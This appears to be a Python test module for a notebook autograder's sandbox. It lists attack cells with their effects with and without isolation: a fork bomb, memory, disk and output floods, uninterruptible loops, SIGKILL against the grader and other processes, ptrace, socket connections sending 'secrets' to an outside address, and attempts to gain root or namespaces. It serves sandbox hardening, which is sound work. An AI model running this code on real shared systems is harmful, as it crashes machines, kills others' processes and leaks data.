"""Attacks on the machine and on others: processes, memory, disk, time, output, signals, network."""

from .attack import Attack, code

_LOST = "the submission is lost: DeadKernelError, and no score is recorded"
_OTHERS = "works: same account, same machine"
_CRASHED, _TIMED_OUT, _MEMORY = frozenset({"crashed"}), frozenset({"timed-out"}), frozenset({"out-of-memory"})


def _cell(
    name: str, tries: str, source: str, stock: str = "not tried", here: str = "that cell is left out", **more
) -> Attack:
    """An attack by a cell of its own: honest work keeps its points."""
    return Attack(name, tries, stock, here, first=code(source), **more)


def _called(
    name: str, tries: str, body: str, stock: str = "not tried", here: str = "costs its own points", **more
) -> Attack:
    """An attack at the moment when a check calls."""
    source = "def double(x):\n" + "\n".join(f"    {line}" for line in code(body).splitlines()) + "\n    return x\n"
    return Attack(name, tries, stock, here, cells={"double": source}, loses=("double",), **more)


ATTACKS = (
    _cell("os._exit in a cell", "Ends the kernel's process.", "import os\nos._exit(0)", _LOST, states=_CRASHED),
    _called(
        "os._exit in a check", "Ends the process when it is asked.", "import os\nos._exit(0)", _LOST, states=_CRASHED
    ),
    _called(
        "sys.exit in a check",
        "Raises SystemExit and other exceptions that are no Exception.",
        "import sys\nif x.dtype.kind == 'i':\n    raise KeyboardInterrupt\nsys.exit(0)",
        "passes silently where it stands before the assertions: SystemExit is an error output, GeneratorExit too",
        states=frozenset({"graded", "timed-out"}),
    ),
    _called("a crash", "Ends by a segmentation fault.", "import ctypes\nctypes.string_at(0)", _LOST, states=_CRASHED),
    _cell(
        "an endless loop",
        "Never ends.",
        "while True:\n    pass",
        "interrupted after 30 s, later cells run",
        states=_TIMED_OUT,
    ),
    _cell(
        "an endless loop that won't be interrupted",
        "Never ends and catches every interruption.",
        """
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
        "every later cell waits its 30 s in vain, all points are lost",
        states=_TIMED_OUT,
    ),
    _called("an endless loop in a check", "Never answers.", "while True:\n    pass", states=_TIMED_OUT),
    _cell(
        "a fork bomb",
        "Makes processes that make processes.",
        """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
        "takes the machine along, as far as the account's limits let it",
        states=_CRASHED | _TIMED_OUT,
    ),
    _cell(
        "a memory bomb",
        "Takes all memory.",
        "import numpy\nheld = []\nwhile True:\n    held.append(numpy.ones(4_000_000))",
        "takes the machine's memory; whom Linux ends then is chance",
        states=_MEMORY,
    ),
    _called(
        "a memory bomb in a check",
        "Takes all memory when it is asked.",
        "held = []\nwhile True:\n    held.append(np.ones(4_000_000))",
        states=_MEMORY,
    ),
    _cell(
        "a full disk",
        "Fills the disk, and leaves no room for others.",
        """
        written = 0
        try:
            with open("filler", "wb") as file:
                while written < 1 << 31:
                    written += file.write(bytes(1 << 20))
        except OSError:
            pass
        import os
        os.remove("filler")
        print("REPORT", written < 100_000_000)
        """,
        "fills the instructor's disk",
        "its own folder is full, nobody else's",
        reports="True",
    ),
    _cell(
        "a flood of output",
        "Prints without end.",
        "line = 'x' * 100_000\nwhile True:\n    print(line)",
        "kept in memory for 30 s; LimitOutput cuts it afterwards",
        states=_CRASHED | _TIMED_OUT | _MEMORY,
    ),
    _cell(
        "a flood of displays",
        "Displays small things without end, each in a message of its own.",
        "from IPython.display import display\nwhile True:\n    display(1)",
        "kept in memory for 30 s",
        states=_CRASHED | _TIMED_OUT | _MEMORY,
    ),
    _called(
        "a flood of output in a check",
        "Prints to the kernel's own stream without end when it is asked.",
        """
        kernel = get_ipython().kernel
        while True:
            kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * 1_000_000})
        """,
        states=_CRASHED | _TIMED_OUT | _MEMORY,
    ),
    _cell(
        "threads and atexit",
        "Goes on in threads, at exit, and in tasks after the last cell.",
        """
        import atexit, os, threading, time
        def go_on():
            while True:
                try:
                    open("@COURSE@/gradebook.db", "a").write("x")
                except OSError:
                    time.sleep(0.01)
        threading.Thread(target=go_on, daemon=False).start()
        atexit.register(go_on)
        """,
        "works: the thread writes until the kernel is shut down, atexit for as long as it likes",
        "everything ends with the kernel's process namespace",
    ),
    _cell(
        "daemons",
        "Leaves processes behind that have a session and a parent of their own.",
        """
        import os, time
        for _ in range(3):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(600)
                os._exit(0)
        """,
        "works: they go on after grading",
        "they end with the kernel's process namespace",
    ),
    _cell(
        "signals to others",
        "Kills every process that it may, its parent, the grader and a bystander.",
        """
        import os, signal
        reached = []
        for number in (@GRADER@, @BYSTANDER@):
            try:
                os.kill(number, signal.SIGKILL)
                reached.append(number)
            except OSError:
                pass
        for number in (os.getppid(), 1, -1):
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                pass
        print("REPORT", reached)
        """,
        _OTHERS,
        "it sees no process but its own",
        reports="[]",
    ),
    _cell(
        "ptrace",
        "Traces other processes and reads their memory.",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        print("REPORT", [n for n in (1, @GRADER@, @BYSTANDER@) if libc.ptrace(16, n, 0, 0) == 0])
        """,
        "works where Linux allows an account to trace its own processes",
        "the system call is refused",
        reports="[]",
    ),
    _cell(
        "sockets",
        "Connects by TCP, UDP and abstract Unix sockets to the grader's machine and to the world.",
        r"""
        import socket
        reached = []
        for family, kind, address in (
            (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @TCP@)),
            (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @UDP@)),
            (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 443)),
            (socket.AF_UNIX, socket.SOCK_STREAM, "\0@ABSTRACT@"),
        ):
            try:
                with socket.socket(family, kind) as outside:
                    outside.settimeout(2)
                    outside.connect(address)
                    outside.send(b"secrets")
                reached.append(address)
            except OSError:
                pass
        print("REPORT", reached)
        """,
        _OTHERS,
        "its network has no way out",
        reports="[]",
    ),
    _cell(
        "raising its own limits",
        "Raises limits, changes its user, mounts, and makes namespaces in which it is root.",
        """
        import ctypes, os, resource
        gained = []
        libc = ctypes.CDLL(None)
        for name, work in {
            "limit": lambda: resource.setrlimit(resource.RLIMIT_NPROC, (10**6, 10**6)),
            "user": lambda: os.setuid(0),
            "nice": lambda: os.nice(-10),
            "root": lambda: os.chroot("."),
        }.items():
            try:
                work()
                gained.append(name)
            except (OSError, ValueError):
                pass
        gained += [name for name, flag in (("namespace", 0x10000000), ("mounts", 0x20000)) if libc.unshare(flag) == 0]
        print("REPORT", gained)
        """,
        "as far as the instructor's account may",
        "no capability, no new namespaces",
        reports="[]",
    ),
)
